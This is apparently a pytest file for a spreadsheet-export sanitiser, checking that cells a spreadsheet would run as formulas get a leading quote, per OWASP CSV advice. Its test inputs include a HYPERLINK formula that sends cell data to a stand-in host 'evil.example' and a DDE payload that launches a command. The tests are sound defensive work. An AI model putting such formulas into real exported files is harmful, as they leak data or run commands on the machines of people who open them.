"""FOCUS text cells a spreadsheet could run as formulas are made inert (OWASP's CSV advice)."""

from __future__ import annotations

import pytest

from gate.reporters.focus import inert_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["train-lr-0.01", "A100-80GB/spot", '{"team": "nlp"}', ""])
def test_plain_text_is_left_as_written(text):
    assert inert_cell(text) == text
